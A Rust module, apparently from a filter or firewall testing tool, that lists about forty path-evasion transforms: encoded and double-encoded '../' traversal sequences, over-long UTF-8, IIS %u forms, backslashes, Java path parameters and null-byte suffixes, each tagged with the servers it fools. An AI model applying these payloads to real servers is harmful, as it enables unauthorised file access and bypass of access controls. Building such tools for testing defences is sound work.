//! The path.

use super::catalogue::{Evasion, Group};
use super::fields::{letters, replaced, swapped, with_target};

const TWICE: &str = "servers behind one that has decoded once";
const DECODES: &str = "servers that decode before they split";
const WINDOWS: &str = "servers on Windows, and those that take `\\` for `/`";
const JAVA: &str = "Java servlets, which cut parameters off segments";
const OVERLONG: &str = "decoders that accept over-long UTF-8";
const MERGES: &str = "servers that merge slashes and dot segments";

pub(super) const ALL: &[Evasion] = &[
    Evasion::path("dots percent-encoded", "nearly all", |path| {
        replaced(path, "..", "%2e%2e")
    }),
    Evasion::path("one dot percent-encoded", "nearly all", |path| {
        replaced(path, "..", ".%2e")
    }),
    Evasion::path("dots percent-encoded twice", TWICE, |path| {
        replaced(path, "..", "%252e%252e")
    }),
    Evasion::path("slashes after dots percent-encoded", DECODES, |path| {
        replaced(path, "../", "..%2f")
    }),
    Evasion::path("slashes after dots percent-encoded twice", TWICE, |path| {
        replaced(path, "../", "..%252f")
    }),
    Evasion::path("dots and slashes percent-encoded", DECODES, |path| {
        replaced(path, "../", "%2e%2e%2f")
    }),
    Evasion::path("dots and slashes percent-encoded twice", TWICE, |path| {
        replaced(path, "../", "%252e%252e%252f")
    }),
    Evasion::path("backslashes after dots", WINDOWS, |path| {
        replaced(path, "../", "..\\")
    }),
    Evasion::path("percent-encoded backslashes after dots", WINDOWS, |path| {
        replaced(path, "../", "..%5c")
    }),
    Evasion::path("backslashes percent-encoded twice", WINDOWS, |path| {
        replaced(path, "../", "..%255c")
    }),
    Evasion::path("backslashes for slashes", WINDOWS, |path| {
        match path.split_first() {
            Some((first, rest)) => [&[*first], &*replaced(rest, "/", "\\")].concat(),
            None => Vec::new(),
        }
    }),
    Evasion::path("path parameters after dots", JAVA, |path| {
        replaced(path, "../", "..;/")
    }),
    Evasion::path("path parameters with a value after dots", JAVA, |path| {
        replaced(path, "../", "..;x=1/")
    }),
    Evasion::path("over-long UTF-8 dots", OVERLONG, |path| {
        replaced(path, "..", "%c0%ae%c0%ae")
    }),
    Evasion::path("over-long UTF-8 slashes", OVERLONG, |path| {
        replaced(path, "../", "..%c0%af")
    }),
    Evasion::path(
        "full-width dots",
        "decoders that map look-alikes to ASCII",
        |path| replaced(path, "..", "%ef%bc%8e%ef%bc%8e"),
    ),
    Evasion::path("dots as %u002e", "IIS", |path| {
        replaced(path, "..", "%u002e%u002e")
    }),
    Evasion::path(
        "dots that survive one removal",
        "filters that take `../` out once",
        |path| replaced(path, "../", "....//"),
    ),
    Evasion::path("two slashes", MERGES, |path| {
        replaced(path, "/../", "//../")
    }),
    Evasion::path("every slash twice", MERGES, |path| {
        replaced(path, "/", "//")
    }),
    Evasion::path("a dot segment more", MERGES, |path| {
        replaced(path, "/../", "/./../")
    }),
    Evasion::path("percent signs encoded again", TWICE, |path| {
        replaced(path, "%", "%25")
    }),
    Evasion::path("slashes percent-encoded", DECODES, |path| {
        replaced(path, "/", "%2f")
    }),
    Evasion::path(
        "path in the other case",
        "file systems without case",
        swapped,
    ),
    Evasion::path("a path parameter", JAVA, |path| [path, b";x=1"].concat()),
    Evasion::path("a path parameter in the first segment", JAVA, |path| {
        let (segment, rest) = first_segment(path);
        [segment, b";x=1", rest].concat()
    }),
    Evasion::path(
        "letters of the path percent-encoded",
        "nearly all",
        |path| letters(path, |byte| format!("%{byte:02x}")),
    ),
    Evasion::path("letters of the path percent-encoded twice", TWICE, |path| {
        letters(path, |byte| format!("%25{byte:02x}"))
    }),
    Evasion::path(
        "an encoded letter in the first segment",
        "nearly all",
        |path| match path {
            [slash, letter, rest @ ..] if letter.is_ascii_alphabetic() => {
                let encoded = format!("%{letter:02x}");
                [&[*slash], encoded.as_bytes(), rest].concat()
            }
            _ => path.to_vec(),
        },
    ),
    Evasion::path("two slashes at the start", MERGES, |path| {
        [b"/", path].concat()
    }),
    Evasion::path("a dot segment at the start", MERGES, |path| {
        [b"/.", path].concat()
    }),
    Evasion::path("a segment that is left again", MERGES, |path| {
        [b"/x/..", path].concat()
    }),
    Evasion::path(
        "a slash after the path",
        "routers that do not mind it",
        |path| [path, b"/"].concat(),
    ),
    Evasion::path("a dot after the path", "servers on Windows", |path| {
        [path, b"."].concat()
    }),
    Evasion::path("a space after the path", "servers on Windows", |path| {
        [path, b"%20"].concat()
    }),
    Evasion::path(
        "a zero byte after the path",
        "servers written in C",
        |path| [path, b"%00"].concat(),
    ),
    Evasion::path(
        "a suffix .json",
        "frameworks that choose a format by suffix",
        |path| [path, b".json"].concat(),
    ),
    Evasion::path(
        "path information at the end",
        "PHP and CGI, which give the rest to the script",
        |path| [path, b"/x.css"].concat(),
    ),
    Evasion::request(
        Group::Path,
        "the target in absolute form",
        "all servers (RFC 9112 section 3.2.2)",
        |request| {
            let mut headers = request.headers.iter();
            let (_, host) = headers.find(|(name, _)| name.eq_ignore_ascii_case(b"host"))?;
            request.target.starts_with(b"/").then(|| {
                let target = [b"http://", host.as_slice(), &request.target].concat();
                with_target(request, target)
            })
        },
    ),
    Evasion::request(
        Group::Path,
        "a fragment at the end",
        "servers that cut fragments off",
        |request| Some(with_target(request, [&request.target, &b"#x"[..]].concat())),
    ),
];

/// With its slash, and what follows.
fn first_segment(path: &[u8]) -> (&[u8], &[u8]) {
    let end = path.iter().skip(1).position(|&byte| byte == b'/');
    path.split_at(end.map_or(path.len(), |at| at + 1))
}
